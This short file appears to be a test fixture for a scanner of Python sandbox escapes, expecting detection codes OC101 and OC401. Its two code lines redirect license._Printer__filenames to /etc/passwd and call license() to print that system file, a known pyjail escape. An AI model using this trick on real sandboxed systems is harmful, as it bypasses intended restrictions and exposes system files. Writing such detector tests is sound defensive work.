# Escape: overwrite the name-mangled license._Printer__filenames, then license() prints any file
# Source: https://github.com/Shirajuki/shirajuki.github.io/blob/0d2837fe19c29f0a7491c28d4b270694c102d82e/src/content/blog/pyjail-cheatsheet.md (license._Printer__filenames)
# Expect: OC101 OC401

license._Printer__filenames = ["/etc/passwd"]
license()
